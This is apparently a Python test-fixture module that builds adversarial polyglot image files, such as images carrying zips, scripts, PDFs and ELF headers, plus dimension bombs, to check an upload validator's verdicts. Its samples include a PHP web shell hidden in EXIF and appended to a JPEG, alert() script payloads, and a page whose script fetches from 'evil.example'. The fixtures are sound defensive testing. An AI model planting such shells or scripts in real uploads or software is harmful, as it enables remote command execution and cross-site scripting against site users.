"""Polyglot files: an image and something else at once."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from PIL import Image

from faceswap_tools.adversarial.containers import jpeg_segment, png_chunk, png_of, tiff_of
from faceswap_tools.adversarial.images import BROKEN, CUT, OK, AdversarialImage, good_images, photograph, saved


def polyglots() -> Iterator[AdversarialImage]:
    """Archives, scripts and other images before, inside and behind an image."""
    good = good_images()
    script = b"*/=1;alert(document.domain)//"
    archive = b"PK\3\4\x14\0\0\0\0\0" + bytes(20) + b"evil.txt" + b"PK\5\6" + bytes(18)
    for kind in ("jpeg", "png", "webp", "tiff", "bmp", "gif"):
        yield AdversarialImage(f"{kind} with a zip behind", good[kind] + archive, OK)
        yield AdversarialImage(f"{kind} with a script behind", good[kind] + script, OK)
    yield AdversarialImage(
        "gif and javascript", b"GIF89a=1/*" + script, ("TRUNCATED_IMAGE", "CORRUPT_IMAGE", "BAD_DIMENSIONS")
    )
    yield AdversarialImage("pdf before jpeg", b"%PDF-1.4\n" + good["jpeg"], ("UNSUPPORTED_FORMAT",))
    yield AdversarialImage("zip before png", archive + good["png"], ("NOT_AN_IMAGE",))
    comment = b"\xff\xfe" + struct.pack(">H", len(script) + 2) + script
    yield AdversarialImage("script in a jpeg comment", good["jpeg"][:2] + comment + good["jpeg"][2:], OK)
    yield AdversarialImage("two jpegs (mpo-like)", good["jpeg"] + good["progressive"], OK)
    mpo = saved(Image.fromarray(photograph()), "MPO", save_all=True, append_images=[Image.fromarray(photograph())])
    yield AdversarialImage("mpo of a phone", mpo, OK)
    yield AdversarialImage("png signature on a jpeg", b"\x89PNG\r\n\x1a\n" + good["jpeg"], BROKEN)
    yield AdversarialImage("webp signature on a png", b"RIFF\x10\0\0\0WEBP" + good["png"], BROKEN)
    yield from _files_of_two_kinds()


def _files_of_two_kinds() -> Iterator[AdversarialImage]:
    good = good_images()
    jpeg, png = good["jpeg"], good["png"]
    page = b"<html><script>fetch('//evil.example')</script></html>"
    yield AdversarialImage("page in a png text", png[:33] + png_chunk(b"tEXt", b"Comment\0" + page) + png[33:], OK)
    yield AdversarialImage("page in a png chunk of its own", png[:33] + png_chunk(b"paGe", page) + png[33:], OK)
    php = b"<?php system($_GET['c']); ?>"
    exif = tiff_of([(270, 2, len(php), 26)], tail=php)
    yield AdversarialImage("php in EXIF", jpeg[:2] + jpeg_segment(0xE1, b"Exif\0\0" + exif) + jpeg[2:], OK)
    yield AdversarialImage("php behind a jpeg", jpeg + php, OK)
    shell = b"#!/bin/sh\necho owned\n"
    yield AdversarialImage("shell script before a jpeg", shell + jpeg, ("NOT_AN_IMAGE",))
    yield AdversarialImage("pdf in a jpeg comment", jpeg[:2] + jpeg_segment(0xFE, b"%PDF-1.7\n1 0 obj") + jpeg[2:], OK)
    yield AdversarialImage("pdf behind a png", png + b"%PDF-1.7\n1 0 obj\nendobj\n%%EOF", OK)
    jar = b"PK\5\6" + bytes(18)
    comment = b"!\xfe" + bytes((len(jar),)) + jar + b"\0"
    yield AdversarialImage("gif and jar", good["gif"][:-1] + comment + b";" + jar, OK)
    yield AdversarialImage("bmp and javascript", b"BM=1/*\0\0\0\0" + good["bmp"][10:] + b"*/;alert(1)", OK)
    yield AdversarialImage("webp and javascript", b"RIFF=1/*WEBP" + good["webp"][12:], (*OK, *CUT))
    yield AdversarialImage("tiff and zip", good["tiff"] + b"PK\3\4" + bytes(26) + jar, OK)
    yield AdversarialImage("elf behind a webp", good["webp"] + b"\x7fELF\2\1\1" + bytes(57), OK)
    yield AdversarialImage("jpeg in front of a bomb", jpeg + _claim(), OK)
    yield AdversarialImage("bomb in front of a jpeg", _claim() + jpeg, ("BAD_DIMENSIONS",))
    yield AdversarialImage("png of which a second begins inside", png[:-12] + png, (*BROKEN, *CUT))
    for kind in ("jpeg", "webp", "bmp", "gif", "tiff"):
        yield AdversarialImage(
            f"mp4 box before a {kind}", b"\0\0\0\x14ftypisom" + bytes(8) + good[kind], ("NOT_AN_IMAGE",)
        )
        heif = b"\0\0\0\x18ftypheic" + bytes(12) + good[kind]
        yield AdversarialImage(f"heic box before a {kind}", heif, ("UNSUPPORTED_FORMAT",))


def _claim() -> bytes:
    return png_of(100_000, 100_000, png_chunk(b"IDAT", b"x"), png_chunk(b"IEND", b""))
